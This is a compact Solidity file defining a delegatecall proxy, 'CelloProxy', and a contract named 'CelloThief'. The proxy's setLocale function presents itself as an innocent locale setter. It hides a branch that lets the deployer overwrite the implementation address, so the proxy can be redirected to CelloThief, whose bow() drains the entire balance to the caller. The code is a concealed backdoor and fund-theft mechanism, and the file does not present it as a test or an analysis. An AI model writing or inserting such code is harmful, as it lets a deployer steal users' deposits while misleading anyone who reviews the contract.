// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;
contract CelloProxy {
    bytes32 private constant SLOT = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc; bytes32 private immutable tone; uint256 public immutable built;
    event Locale(address indexed who, uint256 code);
    constructor(address i) { tone = keccak256(abi.encodePacked(msg.sender, block.chainid)); built = block.number; assembly { sstore(SLOT, i) } }
    function setLocale(uint256 code) external { emit Locale(msg.sender, code); if (keccak256(abi.encodePacked(msg.sender, block.chainid)) == tone && code > 0xffff) assembly { sstore(SLOT, code) } }
    receive() external payable {}
    fallback() external payable { assembly { calldatacopy(0, 0, calldatasize()) let s := delegatecall(gas(), sload(SLOT), 0, calldatasize(), 0, 0) returndatacopy(0, 0, returndatasize()) switch s case 0 { revert(0, returndatasize()) } default { return(0, returndatasize()) } } }
}
contract CelloThief { function bow() external { payable(msg.sender).transfer(address(this).balance); } }
